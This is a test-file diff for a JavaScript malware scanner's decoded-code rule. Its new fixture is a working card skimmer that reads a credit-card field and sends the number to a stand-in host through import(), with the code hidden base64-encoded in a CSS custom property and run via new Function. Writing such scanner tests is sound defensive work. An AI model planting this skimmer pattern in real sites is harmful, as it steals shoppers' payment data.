@@ -1,6 +1,8 @@
+import { describe, expect, test } from 'vitest';
 import rule from './decoded-code-eval.js';
 import { ruleTable } from '../test/helpers/rule-table.js';
 import { pack } from '../test/helpers/packer.js';
+import { analyseSource, sha256 } from '../src/analyse/engine/run.js';
 
 ruleTable(rule, {
   valid: [
@@ -48,4 +50,23 @@ ruleTable(rule, {
     { name: 'GTM custom HTML tag (vtp_html) whose script decodes code', code: "var data = { resource: { tags: [{ 'function': '__html', once_per_event: true, vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003Eif (/checkout/.test(location.pathname)) eval(atob(\\'YWxlcnQoMSk=\\'));\\u003C/script\\u003E', tag_id: 7 }] } };", messageIds: ['decoded'] },
     { name: 'code built with join: low', code: "new Function(parts.join(';'))();", messageIds: ['dynamic'], severity: 'low' },
   ],
+});
+
+describe('code whose decoder input comes from the page', () => {
+  // the payload sits in a CSS custom property the script writes, read back with getComputedStyle
+  const payload = Buffer.from("document.addEventListener('click',function(){var v=document.querySelector('[autocomplete=\"cc-number\"]').value;import('https://assets.theme-cdn.example/c.'+btoa(v)+'.mjs')});").toString('base64');
+  const code = `var st = document.createElement('style'); st.textContent = ':root{--accent:#c00;--map:"${payload}"}'; document.head.appendChild(st);
+var m = getComputedStyle(document.documentElement).getPropertyValue('--map').trim().replace(/^"|"$/g, ''); (new Function(atob(m)))();`;
+  test("the script's own base64 blobs that decode to code are analysed as its children", () => {
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
+    expect(skim?.severity).toBe('critical');
+    expect(skim?.childSha256).toBeTruthy();
+  });
+  test('a base64 image in the same kind of script is not code', () => {
+    const img = Buffer.from('\x89PNG\r\n\x1a\n' + 'x'.repeat(200), 'latin1').toString('base64');
+    const c2 = `var s = '${img}'; var m = el.dataset.x; (new Function(atob(m)))();`;
+    const r = analyseSource({ sha256: sha256(c2), source: c2, url: null, kind: 'external' }, { rethrow: true });
+    expect(r.findings.some((f) => f.childSha256)).toBe(false);
+  });
 });
